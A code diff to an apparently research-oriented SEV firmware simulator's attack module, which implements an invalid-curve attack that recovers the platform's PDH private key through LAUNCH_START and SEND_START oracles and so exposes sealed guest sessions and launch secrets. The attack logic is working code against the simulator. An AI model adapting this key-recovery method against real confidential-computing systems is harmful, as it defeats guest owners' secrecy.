@@ -6,6 +6,12 @@ the curve's `b`, so a point on another curve y^2 = x^3 - 3x + b' is multiplied o
 if the point has small order r, the shared X the firmware derives its keys from is one of r
 values, which leaks the key modulo r. Residues for enough coprime r give the key (CRT), and
 with it every session a guest owner ever sealed to this PDH: the launch secret included.
+
+The same unchecked multiplication serves every command that takes a peer's point. Through
+LAUNCH_START each guess costs a command (the session the host sealed opens or not): the
+attack uses it for the key's parity. SEND_START of the host's own guest, with the point as
+the "target's PDH", returns a session the firmware sealed under keys derived from that X:
+one command per point, and the guesses are checked offline against the session's MAC.
 """
 
 from __future__ import annotations
@@ -15,7 +21,8 @@ import hmac
 import itertools
 import math
 from collections.abc import Callable, Iterator
-from dataclasses import dataclass, field
+from dataclasses import dataclass
+from functools import cached_property
 
 from cryptography.hazmat.primitives import hashes
 from cryptography.hazmat.primitives.asymmetric import ec
@@ -41,8 +48,8 @@ from sevsim.abi.sev_session import (
 from sevsim.abi.status import PlatformStatus, SevStatus
 from sevsim.attacks.framework import Attack, Attempt, Setting
 from sevsim.attacks.lab import Lab
-from sevsim.attest.sev_owner import GuestOwner as LaunchOwner
 from sevsim.attacks.toolkit import HypervisorAttacker
+from sevsim.attest.sev_owner import GuestOwner as LaunchOwner
 from sevsim.errors import FirmwareError
 
 P = 2**384 - 2**128 - 2**96 + 2**32 - 1  # P-384's field
@@ -102,7 +109,7 @@ def add(p1: Jacobian, p2: Jacobian) -> Jacobian:
 
 
 def multiply(k: int, pt: Jacobian) -> Jacobian:
-    """kP by double-and-add."""
+    """The multiple k * pt, by double-and-add."""
     result = INFINITY
     while k:
         if k & 1:
@@ -137,16 +144,21 @@ def affine(pt: Jacobian) -> tuple[int, int]:
 
 
 def factor_small(n: int) -> dict[int, int]:
-    """The prime powers below LIMIT dividing n, as {prime: exponent}."""
+    """The primes below LIMIT dividing n, as {prime: exponent}, the exponent kept while the
+    prime power stays below LIMIT (the offline guesses for a residue are that many)."""
     found: dict[int, int] = {}
     for q in range(2, LIMIT):
         if n % q == 0 and all(q % f for f in found):
-            e = 0
-            while n % q == 0:
-                n //= q
+            e = 1
+            while n % q ** (e + 1) == 0 and q ** (e + 1) < LIMIT:
                 e += 1
             found[q] = e
     return found
+
+
+def two_adic(n: int) -> int:
+    """The exponent of 2 in n."""
+    return (n & -n).bit_length() - 1
 
 
 @dataclass(frozen=True)
@@ -155,25 +167,45 @@ class InvalidCurve:
 
     b: int
     points: int
-    small: dict[int, int] = field(default_factory=dict)
 
-    def point_of_order(self, m: int, primes: list[int]) -> Jacobian:
-        """A point of order exactly m (m divides the group order; `primes` are its prime
-        factors): the cofactor times points found by x = 1, 2, ... until one has it."""
+    @cached_property
+    def small(self) -> dict[int, int]:
+        """The prime powers below LIMIT dividing the order, each a residue to learn."""
+        return factor_small(self.points)
+
+    @cached_property
+    def smooth(self) -> int:
+        """The largest divisor of the order made of primes below LIMIT (the whole 2-part)."""
+        part = 1
+        for q in self.small:
+            while self.points % (part * q) == 0:
+                part *= q
+        return part
+
+    @cached_property
+    def generator(self) -> Jacobian:
+        """A point of order exactly `smooth`: the cofactor times the first point, found by
+        x = 1, 2, ..., whose order has every small prime power in full."""
         for x in range(1, 1 << 16):
             rhs = (x * x * x - 3 * x + self.b) % P
             if rhs == 0 or pow(rhs, (P - 1) // 2, P) != 1:
                 continue
-            candidate = multiply(self.points // m, (x, pow(rhs, (P + 1) // 4, P), 1))
-            if all(multiply(m // q, candidate)[2] != 0 for q in primes):
+            candidate = multiply(self.points // self.smooth, (x, pow(rhs, (P + 1) // 4, P), 1))
+            if all(multiply(self.smooth // q, candidate)[2] for q in self.small):
                 return candidate
-        raise ValueError(f"no point of order {m} on the curve with b = {self.b:x}")
+        raise ValueError(f"no point of order {self.smooth} on the curve with b = {self.b:x}")
+
+    def point_of_order(self, m: int) -> Jacobian:
+        """A point of order exactly m, a divisor of `smooth`."""
+        if self.smooth % m:
+            raise ValueError(f"{m} does not divide the smooth part of the order")
+        return multiply(self.smooth // m, self.generator)
 
 
 def curves() -> Iterator[InvalidCurve]:
     """The table's curves with their small prime powers."""
     for b, points in CURVES:
-        yield InvalidCurve(b, points, factor_small(points))
+        yield InvalidCurve(b, points)
 
 
 # -- the attack ----------------------------------------------------------------------------------
@@ -257,9 +289,9 @@ def recover_key(oracle: PdhOracle, pdh: tuple[int, int], trace: Callable[[str], 
     table = list(curves())
     torus = table[0]
     known2, bits = 0, 0
-    while bits < torus.small[2]:  # the torus's 2-part, eight bits per point
-        nxt = min(bits + 8, torus.small[2])
-        point = torus.point_of_order(1 << nxt, [2])
+    while bits < two_adic(torus.points):  # the torus's 2-part, eight bits per point
+        nxt = min(bits + 8, two_adic(torus.points))
+        point = torus.point_of_order(1 << nxt)
         t = solve(oracle.ask(point), point, known2, 1 << bits,
                   (1 << (nxt - bits)) if bits else (1 << (nxt - 1)) + 1)
         if t is None:
@@ -276,17 +308,16 @@ def recover_key(oracle: PdhOracle, pdh: tuple[int, int], trace: Callable[[str], 
         if any(m % prime == 0 for m in moduli):
             continue
         anchored = [(anchor, group) for group in groups
-                    if (anchor := _anchor(group, curve.points)) is not None]
+                    if (anchor := _anchor(group, curve)) is not None]
         if anchored:
-            (anchor_mod, anchor_value, anchor_prime), group = min(anchored,
-                                                                  key=lambda a: a[0][0])
-            point = curve.point_of_order(anchor_mod * power, [anchor_prime, prime])
+            (anchor_mod, anchor_value), group = min(anchored, key=lambda a: a[0][0])
+            point = curve.point_of_order(anchor_mod * power)
             t = solve(oracle.ask(point), point, anchor_value, anchor_mod, power)
             if t is None:
                 return None
             group[power] = (anchor_value + anchor_mod * t) % power
         elif len(curve.small) > 1 and len(groups) < MAX_GROUPS:
-            point = curve.point_of_order(power, [prime])  # a new group: k mod q^e up to sign
+            point = curve.point_of_order(power)  # a new group: k mod q^e up to sign
             t = solve(oracle.ask(point), point, 0, 1, power // 2 + 1)
             if t is None:
                 return None
@@ -309,15 +340,14 @@ def recover_key(oracle: PdhOracle, pdh: tuple[int, int], trace: Callable[[str], 
     return None
 
 
-def _anchor(residues: dict[int, int], points: int) -> tuple[int, int, int] | None:
-    """The smallest modulus g (a known prime power's part dividing the curve's order) with
-    k mod g != -k mod g: (g, k mod g, its prime); None if the curve has none yet."""
-    best: tuple[int, int, int] | None = None
+def _anchor(residues: dict[int, int], curve: InvalidCurve) -> tuple[int, int] | None:
+    """The smallest modulus g (a known prime power's part dividing the curve's smooth order)
+    with k mod g != -k mod g: (g, k mod g); None if the curve has none yet."""
+    best: tuple[int, int] | None = None
     for modulus, value in residues.items():
-        g = math.gcd(modulus, points)
+        g = math.gcd(modulus, curve.smooth)
         if g > 1 and 2 * value % g and (best is None or g < best[0]):
-            prime = next(q for q in range(2, g + 1) if g % q == 0)
-            best = (g, value % g, prime)
+            best = (g, value % g)
     return best
 
 
